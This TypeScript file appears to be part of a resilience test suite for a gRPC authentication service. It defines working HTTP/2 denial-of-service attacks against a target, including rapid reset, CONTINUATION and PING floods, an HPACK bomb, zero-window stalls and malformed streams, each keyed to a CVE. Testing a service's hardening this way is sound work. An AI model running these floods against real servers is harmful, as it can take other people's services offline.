import {
  begin,
  block,
  callOf,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  indexed,
  numbered,
  PING,
  PRIORITY,
  RST_STREAM,
  SETTINGS,
  WINDOW_UPDATE,
} from './http2-frames.js';
import { RawConnection } from './raw-connection.js';

export interface GrpcAttack {
  readonly name: string;
  /** How often, in the short form and the long one. */
  readonly counts: readonly [short: number, long: number];
  /** Whether the service has to end the connection. */
  readonly isEnded: boolean;
  readonly run: (target: string, count: number) => Promise<readonly RawConnection[]>;
}

const EXCHANGE = '/countersign.auth.v1.AuthService/ExchangeToken';
const WATCH = '/grpc.health.v1.Health/Watch';
/** `SETTINGS_INITIAL_WINDOW_SIZE`. */
const WINDOW = 4;
const odd = (index: number): number => 2 * index + 1;
/** A message that says it has 100 bytes. */
const BEGUN = Buffer.from([0, 0, 0, 0, 100]);

/** One connection that is flooded. */
const flooding =
  (piece: (index: number) => Buffer, before: Buffer = Buffer.alloc(0)): GrpcAttack['run'] =>
  async (target, count) => {
    const raw = await RawConnection.http2(target);
    if (before.length > 0) await raw.send(before);
    await raw.flood(count, piece);
    return [raw];
  };

const open = (stream: number, path = EXCHANGE): Buffer => begin({ stream, headers: callOf(path), flags: END_HEADERS });
const begun = (flags: number, headers = callOf(EXCHANGE)): Buffer =>
  frame({ type: HEADERS, flags, stream: 1, payload: block(headers) });
const fields = (size: number): Buffer => block([['x-filler', 'a'.repeat(size)]]);

export const GRPC_ATTACKS: readonly GrpcAttack[] = [
  {
    name: 'CVE-2023-44487: rapid reset',
    counts: [5_000, 20_000],
    isEnded: true,
    run: flooding((index) => {
      const stream = odd(index);
      return Buffer.concat([open(stream), numbered(RST_STREAM, stream, 8)]);
    }),
  },
  {
    name: 'CVE-2025-8671: streams that the service is made to reset',
    counts: [3_000, 20_000],
    isEnded: false,
    run: flooding((index) => {
      const stream = odd(index);
      return Buffer.concat([open(stream), numbered(WINDOW_UPDATE, stream, 0x7fffffff)]);
    }),
  },
  {
    name: 'CVE-2024-28182: a flood of CONTINUATION',
    counts: [10_000, 100_000],
    isEnded: true,
    run: flooding(() => frame({ type: CONTINUATION, stream: 1, payload: fields(1_000) }), begun(0)),
  },
  {
    name: 'CVE-2024-28182: empty CONTINUATION frames',
    counts: [20_000, 200_000],
    isEnded: true,
    run: flooding(() => frame({ type: CONTINUATION, stream: 1 }), begun(0)),
  },
  {
    name: 'CVE-2024-27983: connections that end within a header block',
    counts: [100, 1_000],
    isEnded: false,
    run: async (target, count) => {
      for (let index = 0; index < count; index += 1) {
        const raw = await RawConnection.http2(target);
        await raw.send(Buffer.concat([begun(0), frame({ type: CONTINUATION, stream: 1, payload: fields(100) })]));
        raw.close();
      }
      return [];
    },
  },
  {
    name: 'CVE-2019-9512: a flood of PING that nobody reads the answers of',
    counts: [50_000, 500_000],
    isEnded: false,
    run: async (target, count) => {
      const raw = await RawConnection.http2(target);
      raw.deaf();
      await patiently(raw.flood(count, () => frame({ type: PING, payload: Buffer.alloc(8) })));
      return [raw];
    },
  },
  {
    name: 'CVE-2019-9515: a flood of SETTINGS that nobody reads the answers of',
    counts: [50_000, 500_000],
    isEnded: false,
    run: async (target, count) => {
      const raw = await RawConnection.http2(target);
      raw.deaf();
      await patiently(raw.flood(count, () => frame({ type: SETTINGS })));
      return [raw];
    },
  },
  {
    name: 'CVE-2019-9518: a flood of empty DATA',
    counts: [50_000, 500_000],
    isEnded: false,
    run: flooding(() => frame({ type: DATA, stream: 1 }), open(1)),
  },
  {
    name: 'CVE-2019-9513: a flood of PRIORITY',
    counts: [50_000, 500_000],
    isEnded: false,
    run: flooding((index) =>
      frame({ type: PRIORITY, stream: odd(index % 1_000), payload: Buffer.from([0, 0, 0, 0, index % 256]) }),
    ),
  },
  {
    name: 'CVE-2019-9516: headers without names',
    counts: [500, 5_000],
    isEnded: false,
    run: flooding((index) =>
      begin({ stream: odd(index), headers: [...callOf(EXCHANGE), ...Array.from({ length: 100 }, () => ['', ''] as const)] }),
    ),
  },
  {
    name: 'CVE-2019-9511: answers that nobody lets through',
    counts: [1_000, 10_000],
    isEnded: false,
    run: async (target, count) => {
      const raw = await RawConnection.http2(target, { [WINDOW]: 0 });
      raw.deaf();
      await patiently(
        raw.flood(count, (index) => begin({ stream: odd(index), headers: callOf('/grpc.health.v1.Health/Check') })),
      );
      return [raw];
    },
  },
  {
    name: 'CVE-2016-6581: a header block that grows when it is read (HPACK bomb)',
    counts: [50, 500],
    isEnded: false,
    run: flooding((index) => {
      const stored = index === 0 ? indexed('x-bomb', 'a'.repeat(4_000)) : Buffer.alloc(0);
      const payload = Buffer.concat([block(callOf(EXCHANGE)), stored, Buffer.alloc(8_000, 0x80 | 62)]);
      return frame({ type: HEADERS, flags: END_HEADERS | END_STREAM, stream: odd(index), payload });
    }),
  },
  {
    name: 'a frame that says it has 16 MiB',
    counts: [1, 1],
    isEnded: true,
    run: flooding(() => frame({ type: DATA, stream: 1, payload: Buffer.alloc(1_000_000), length: 0xffffff }), open(1)),
  },
  {
    name: 'frames of no known type',
    counts: [50_000, 500_000],
    isEnded: false,
    run: flooding((index) => frame({ type: 0x20 + (index % 100), stream: index, payload: Buffer.alloc(16) })),
  },
  {
    name: 'CVE-2026-21714: connections with a WINDOW_UPDATE beyond all windows',
    counts: [200, 10_000],
    isEnded: false,
    run: async (target, count) => {
      for (let index = 0; index < count; index += 1) {
        const raw = await RawConnection.http2(target);
        await raw.send(numbered(WINDOW_UPDATE, 0, 0x7fffffff));
        await raw.ended;
        raw.close();
      }
      return [];
    },
  },
  {
    name: 'calls that begin and never go on',
    counts: [5_000, 50_000],
    isEnded: false,
    run: flooding((index) => open(odd(index))),
  },
  {
    name: 'watchers of health without end',
    counts: [5_000, 50_000],
    isEnded: false,
    run: flooding((index) => {
      const stream = odd(index);
      return Buffer.concat([open(stream, WATCH), frame({ type: DATA, flags: END_STREAM, stream, payload: Buffer.alloc(5) })]);
    }),
  },
  {
    name: 'messages that come byte by byte and never end',
    counts: [20_000, 200_000],
    isEnded: false,
    run: flooding(
      (index) => frame({ type: DATA, stream: odd(index % 50), payload: index < 50 ? BEGUN : Buffer.of(0) }),
      Buffer.concat(Array.from({ length: 50 }, (_none, index) => open(odd(index)))),
    ),
  },
  {
    name: 'streams out of order, on even numbers and on none',
    counts: [1, 1],
    isEnded: false,
    run: async (target) => {
      const wrongs = [open(2), Buffer.concat([open(9), open(3)]), begin({ stream: 0, headers: callOf(EXCHANGE) })];
      const opened = await Promise.all(wrongs.map(() => RawConnection.http2(target)));
      await Promise.all(opened.map((raw, index) => raw.send(wrongs[index] ?? Buffer.alloc(0))));
      return opened;
    },
  },
];

/** The other side may stop reading as well, for as long as nobody takes its answers: then this is over. */
async function patiently(flood: Promise<void>): Promise<void> {
  await Promise.race([flood, new Promise((resolve) => setTimeout(resolve, 300).unref())]);
}
